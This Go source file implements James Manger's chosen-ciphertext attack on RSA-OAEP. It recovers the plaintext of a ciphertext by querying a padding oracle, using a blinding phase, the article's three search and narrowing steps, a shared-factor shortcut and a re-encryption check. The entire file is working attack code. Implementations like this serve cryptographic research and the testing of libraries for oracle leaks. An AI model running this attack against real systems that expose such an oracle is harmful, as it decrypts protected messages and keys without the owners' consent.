package mangerattack

import (
	"context"
	"errors"
	"fmt"
	"math/big"
)

// Result is what an attack run recovered.
type Result struct {
	// Plaintext is m such that m^e = c mod N.
	Plaintext *big.Int
	// BlindingFactor is the fx used in phase 0, 1 when c needed no blinding.
	BlindingFactor *big.Int
	// Verified reports whether Plaintext re-encrypts to the target ciphertext.
	Verified bool

	// Queries is the total number of oracle queries.
	Queries uint64
	// ValidQueries counts the queries answered true.
	ValidQueries uint64
	// Steps counts the oracle queries spent in each phase.
	Steps [4]int
}

// Attack recovers the plaintext of c using only the session's oracle.
//
// The steps are direct references to James Manger's "A Chosen Ciphertext
// Attack on RSA Optimal Asymmetric Encryption Padding (OAEP) as Standardized
// in PKCS #1 v2.0" article and notation, preceded by a blinding step so that
// any c in [0, N) can be attacked, not only those decrypting below B.
// A ciphertext sharing a factor with N gives that factor away, and its
// plaintext is then computed without querying the oracle.
//
// ctx is checked before every oracle query. When the recovered plaintext
// fails the re-encryption check, the result is returned along with
// ErrVerificationFailed.
func (s *Session) Attack(ctx context.Context, c *big.Int) (*Result, error) {
	if c == nil || c.Sign() < 0 || c.Cmp(s.N) >= 0 {
		return nil, ErrCiphertextRange
	}
	// We reset the query counters
	s.resetCounters()
	res := &Result{BlindingFactor: big.NewInt(1)}

	g, _, _, err := ExtendedEuclid(c, s.N)
	if err != nil {
		return nil, err
	}

	var mmin *big.Int
	switch {
	case c.Sign() == 0:
		// 0^e = 0, and f*0 never leaves [0, B) so step 1 would not end
		mmin = new(big.Int)
	case g.Cmp(one) != 0:
		// no fx coprime to N can bring a multiple of g below B when g > B
		mmin, err = s.fromSharedFactor(c, g)
		if err != nil {
			return nil, err
		}
	default:
		c0, fx, err := s.blind(ctx, c, res)
		if err != nil {
			return nil, err
		}
		res.BlindingFactor = fx

		f1, err := s.step1(ctx, c0, res)
		if err != nil {
			return nil, err
		}
		f2, err := s.step2(ctx, c0, f1, res)
		if err != nil {
			return nil, err
		}
		mmin, err = s.step3(ctx, c0, f2, res)
		if err != nil {
			return nil, err
		}
	}

	res.Queries = s.Queries()
	res.ValidQueries = s.ValidQueries()
	if err := s.reconstruct(c, mmin, res); err != nil {
		if errors.Is(err, ErrVerificationFailed) {
			return res, err
		}
		return nil, err
	}
	return res, nil
}

// Attack is a shorthand for NewSession followed by Session.Attack.
func Attack(ctx context.Context, N, e, c *big.Int, oracle Oracle, opts ...Option) (*Result, error) {
	s, err := NewSession(N, e, oracle, opts...)
	if err != nil {
		return nil, err
	}
	return s.Attack(ctx, c)
}

// tryOracle asks the oracle whether c*f^e mod N, cf Step 1.2 in Manger's
// article, decrypts below B.
func (s *Session) tryOracle(ctx context.Context, phase Phase, c, f *big.Int) (bool, error) {
	if err := ctx.Err(); err != nil {
		return false, fmt.Errorf("%s: %w", phase, err)
	}
	fe, err := PowerMod(f, s.E, s.N)
	if err != nil {
		return false, fmt.Errorf("%s: %w", phase, err)
	}
	mcfe := fe.Mul(fe, c)
	mcfe.Mod(mcfe, s.N)

	// We increment our counters
	s.queries.Add(1)
	below := s.oracle.Query(mcfe)
	if below {
		s.validQueries.Add(1)
	}
	return below, nil
}

// blind searches fx = 1, 2, 3, ... until c*fx^e decrypts below B, and
// returns that ciphertext together with fx. fx = 1 is the unmodified c.
// Candidates sharing a factor with N are skipped without a query: they
// cannot be inverted afterwards.
func (s *Session) blind(ctx context.Context, c *big.Int, res *Result) (*big.Int, *big.Int, error) {
	fx := big.NewInt(1)
	for ; ; fx.Add(fx, one) {
		if fx.Cmp(s.N) >= 0 {
			return nil, nil, fmt.Errorf("blinding: no fx < N: %w", ErrInconsistentOracle)
		}
		if !s.coprime(fx) {
			continue
		}
		below, err := s.tryOracle(ctx, PhaseBlinding, c, fx)
		if err != nil {
			return nil, nil, err
		}
		res.Steps[PhaseBlinding]++
		s.report(PhaseBlinding, nil)
		if below {
			break
		}
	}
	s.logger.Info("blinding finished", "fx", fx, "queries", res.Steps[PhaseBlinding])

	if fx.Cmp(one) == 0 {
		return c, fx, nil
	}
	c0, err := PowerMod(fx, s.E, s.N)
	if err != nil {
		return nil, nil, err
	}
	c0.Mul(c0, c)
	c0.Mod(c0, s.N)
	return c0, fx, nil
}

func (s *Session) coprime(x *big.Int) bool {
	g, _, _, err := ExtendedEuclid(x, s.N)
	return err == nil && g.Cmp(one) == 0
}

// fromSharedFactor recovers m from c when g = gcd(c, N) is a proper factor
// of N = g*h with g and h prime. Then m = 0 mod g, and m = c^dh mod h where
// dh is the inverse of e mod h-1, which CRT combines into m mod N.
func (s *Session) fromSharedFactor(c, g *big.Int) (*big.Int, error) {
	h := new(big.Int).Quo(s.N, g)
	s.logger.Warn("ciphertext shares a factor with N", "factor", g)
	if !g.ProbablyPrime(20) || !h.ProbablyPrime(20) {
		return nil, fmt.Errorf("factor %s of N: %w", g, ErrNotInvertible)
	}

	dh, err := InverseMod(s.E, new(big.Int).Sub(h, one))
	if err != nil {
		return nil, fmt.Errorf("e mod %s-1: %w", h, err)
	}
	mh, err := PowerMod(c, dh, h)
	if err != nil {
		return nil, err
	}
	gInv, err := InverseMod(g, h)
	if err != nil {
		return nil, err
	}
	// m = g * (mh * g^-1 mod h) is 0 mod g and mh mod h
	m := gInv.Mul(gInv, mh)
	m.Mod(m, h)
	return m.Mul(m, g), nil
}

func (s *Session) step1(ctx context.Context, c0 *big.Int, res *Result) (*big.Int, error) {
	// 1.1
	f1 := big.NewInt(2)
	// 1.2
	for {
		below, err := s.tryOracle(ctx, PhaseExponentialSearch, c0, f1)
		if err != nil {
			return nil, err
		}
		res.Steps[PhaseExponentialSearch]++
		s.report(PhaseExponentialSearch, nil)
		if !below { // 1.3b
			// we are >= B, this implies that f1*m ∈ [B,2B[
			break
		}
		// 1.3a
		f1.Lsh(f1, 1)
		// f1*m' reaches B before f1 exceeds N for any m' != 0
		if f1.Cmp(s.N) > 0 {
			return nil, fmt.Errorf("step 1: f1 > N: %w", ErrInconsistentOracle)
		}
	}
	s.logger.Info("step 1 finished", "f1", f1, "queries", res.Steps[PhaseExponentialSearch])
	return f1, nil
}

func (s *Session) step2(ctx context.Context, c0, f1 *big.Int, res *Result) (*big.Int, error) {
	// f12 is the "return value" of the step 1: f1/2*m ∈ [B/2,B[
	f12 := new(big.Int).Rsh(f1, 1)

	// 2.1
	nB := new(big.Int).Add(s.N, s.B)
	f2 := floorDiv(nB, s.B)
	f2.Mul(f2, f12)

	// 2.2
	for {
		below, err := s.tryOracle(ctx, PhaseBisection, c0, f2)
		if err != nil {
			return nil, err
		}
		res.Steps[PhaseBisection]++
		s.report(PhaseBisection, nil)
		if below { // 2.3b
			// this implies that we have found a f2 such that f2*m ∈ [N,N+B[
			break
		}
		// 2.3a
		f2.Add(f2, f12)
	}
	s.logger.Info("step 2 finished", "f2", f2, "queries", res.Steps[PhaseBisection])
	return f2, nil
}

func (s *Session) step3(ctx context.Context, c0, f2 *big.Int, res *Result) (*big.Int, error) {
	// 3.1
	nB := new(big.Int).Add(s.N, s.B)
	mmin, err := CeilDiv(s.N, f2)
	if err != nil {
		return nil, err
	}
	mmax := floorDiv(nB, f2)
	BB := new(big.Int).Mul(two, s.B)
	diff := new(big.Int).Sub(mmax, mmin)
	if diff.Sign() < 0 {
		return nil, fmt.Errorf("step 3.1: mmax < mmin: %w", ErrInconsistentOracle)
	}

	for diff.Sign() > 0 {
		// 3.2
		ftmp := floorDiv(BB, diff)
		// 3.3
		i := floorDiv(new(big.Int).Mul(ftmp, mmin), s.N)
		if i.Sign() == 0 {
			return nil, fmt.Errorf("step 3.3: i = 0: %w", ErrInconsistentOracle)
		}
		// 3.4
		iN := new(big.Int).Mul(i, s.N)
		f3, err := CeilDiv(iN, mmin)
		if err != nil {
			return nil, err
		}
		below, err := s.tryOracle(ctx, PhaseNarrowing, c0, f3)
		if err != nil {
			return nil, err
		}
		res.Steps[PhaseNarrowing]++

		iNB := new(big.Int).Add(iN, s.B)
		if below { // 3.5b: < B
			mmax = floorDiv(iNB, f3)
		} else { // 3.5a: >= B
			mmin, err = CeilDiv(iNB, f3)
			if err != nil {
				return nil, err
			}
		}

		next := new(big.Int).Sub(mmax, mmin)
		if next.Sign() < 0 {
			return nil, fmt.Errorf("step 3.5: mmax < mmin: %w", ErrInconsistentOracle)
		}
		if next.Cmp(diff) >= 0 {
			return nil, fmt.Errorf("step 3.5 with width %s: %w", diff, ErrNoProgress)
		}
		diff = next
		s.report(PhaseNarrowing, diff)
	}

	s.logger.Info("step 3 finished", "m", mmin, "queries", res.Steps[PhaseNarrowing])
	return mmin, nil
}

// reconstruct un-blinds mmin into res.Plaintext and checks it against c.
func (s *Session) reconstruct(c, mmin *big.Int, res *Result) error {
	m := mmin
	if res.BlindingFactor.Cmp(one) != 0 {
		inv, err := InverseMod(res.BlindingFactor, s.N)
		if err != nil {
			return fmt.Errorf("unblinding: %w", err)
		}
		m = inv.Mul(inv, mmin)
		m.Mod(m, s.N)
	}
	res.Plaintext = m

	check, err := PowerMod(m, s.E, s.N)
	if err != nil {
		return err
	}
	res.Verified = check.Cmp(c) == 0
	s.logger.Info("attack finished", "verified", res.Verified,
		"queries", res.Queries, "valid_queries", res.ValidQueries)
	if !res.Verified {
		return ErrVerificationFailed
	}
	return nil
}
